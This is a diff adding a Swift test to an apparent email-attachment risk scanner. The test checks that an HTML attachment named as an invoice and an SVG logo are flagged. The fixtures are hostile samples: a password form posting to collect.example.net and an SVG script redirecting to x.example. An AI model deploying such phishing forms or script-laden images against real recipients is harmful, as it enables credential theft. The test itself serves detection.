@@ -69,4 +69,12 @@ import Testing
         #expect(html("<p>only html</p>", plain: nil).has("html-only"))
         #expect(!html("<p>with text</p>").has("html-only"))
     }
+
+    @Test func htmlAttachmentsAreCheckedLikeBodies() throws {
+        let page = Array(#"<html><form action="https://collect.example.net/"><input type="password"></form></html>"#.utf8)
+        let report = Risk.assess(Risk.withAttachment(page, headerLines: ["Content-Type: text/html; name=\"請求書.html\""]))
+        #expect(try #require(report.signal("html-form")).detail.contains("opens in a browser"), "\(report.signals)")
+        let svg = Array(#"<svg xmlns="http://www.w3.org/2000/svg"><script>location='https://x.example'</script></svg>"#.utf8)
+        #expect(Risk.assess(Risk.withAttachment(svg, headerLines: ["Content-Type: image/svg+xml; name=\"logo.svg\""])).has("html-script"))
+    }
 }
